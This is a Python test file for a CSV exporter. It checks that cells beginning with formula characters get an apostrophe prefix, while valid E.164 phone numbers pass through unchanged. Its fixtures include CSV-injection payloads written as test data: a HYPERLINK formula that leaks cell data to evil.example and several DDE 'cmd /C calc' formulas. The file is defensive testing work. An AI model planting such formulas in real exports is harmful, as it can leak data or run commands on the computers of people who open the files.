"""The one CSV writer: no cell can start a spreadsheet formula, E.164 numbers stay importable."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from portal.services import csv_export

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# What E.164 means: a plus, a country code that does not start with 0, at most 15 ASCII digits.
VALID_E164 = re.compile(r"\+[1-9][0-9]{6,14}")


def read_back(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


def written_cell(value: object) -> str:
    """The one cell a spreadsheet would read after write_csv wrote `value`."""
    [header, [cell]] = read_back(csv_export.write_csv(["value"], [[value]]))
    assert header == ["value"]
    return cell


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "+",
        "-",
        "=",
        "@",
    ],
)
def test_a_cell_starting_with_a_formula_prefix_gets_an_apostrophe(hostile):
    assert csv_export.safe_cell(hostile) == "'" + hostile
    assert written_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("phone", ["+15555550100", "+442071838750", "+33142685300", "+8613800138000"])
def test_an_e164_phone_number_is_kept_as_it_is(phone):
    assert csv_export.safe_cell(phone) == phone
    assert written_cell(phone) == phone


@pytest.mark.parametrize(
    "not_a_phone",
    [
        "+1 555 555 0100",  # spaces: not E.164
        "+1-555-555-0100",
        "+05555550100",  # no country code starts with 0
        "+1555",  # too short
        "+1234567890123456",  # longer than 15 digits
        "+15555550100\n",
        "+15555550100+cmd|' /C calc'!A0",
        "+1" + "\u0663" * 9,  # ARABIC-INDIC DIGIT THREE: a digit to `\d`, not to E.164
    ],
)
def test_a_plus_cell_that_is_not_exactly_an_e164_number_is_neutralized(not_a_phone):
    assert csv_export.safe_cell(not_a_phone) == "'" + not_a_phone


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        ("Ana Rivera", "Ana Rivera"),
        ("a=b", "a=b"),  # only the first character matters
        (" =1+1", " =1+1"),
        (42, "42"),
        (-5, "-5"),  # a number, not text: nothing to neutralize
        (2.5, "2.5"),
        (True, "True"),
        (datetime(2026, 11, 27, 15, 30, tzinfo=UTC), "2026-11-27T15:30:00+00:00"),
    ],
)
def test_other_cells_are_written_as_they_are(value, expected):
    assert csv_export.safe_cell(value) == expected
    assert written_cell(value) == expected


def test_the_header_goes_through_the_same_rules():
    [header] = read_back(csv_export.write_csv(["=name", "phone"], []))
    assert header == ["'=name", "phone"]


def test_rows_end_with_crlf_and_commas_quotes_and_newlines_survive():
    body = csv_export.write_csv(["name", "note"], [["Rivera, Ana", 'She said "hi"\nthen left']])
    assert body.startswith("name,note\r\n")
    assert body.endswith("\r\n")
    assert read_back(body) == [["name", "note"], ["Rivera, Ana", 'She said "hi"\nthen left']]


def e164_lookalikes() -> st.SearchStrategy[str]:
    """Text close to a phone number: Hypothesis's \\d includes every Unicode digit."""
    return st.from_regex(r"\A[+=\-@\t\r]?[+]?\d{0,16}\Z", fullmatch=True)


cell_text = st.one_of(
    st.text(),
    st.builds(lambda prefix, rest: prefix + rest, st.sampled_from(FORMULA_PREFIXES), st.text()),
    e164_lookalikes(),
)


@given(cell_text)
@example("+15555550100")
@example("+1" + "\u0663" * 9)
@example("\r\n=1+1")
def test_no_written_cell_starts_a_formula_unless_it_is_an_e164_number(text):
    cell = written_cell(text)
    if VALID_E164.fullmatch(text):
        assert cell == text
    else:
        assert not cell.startswith(FORMULA_PREFIXES), repr(cell)


@given(st.lists(st.lists(cell_text, min_size=3, max_size=3), max_size=5))
def test_every_csv_round_trips_through_csv_reader(rows):
    header = ["one", "two", "three"]
    parsed = read_back(csv_export.write_csv(header, rows))
    assert parsed[0] == header
    assert parsed[1:] == [[csv_export.safe_cell(cell) for cell in row] for row in rows]
    for row, written in zip(rows, parsed[1:], strict=True):
        for original, cell in zip(row, written, strict=True):
            assert cell in (original, "'" + original)
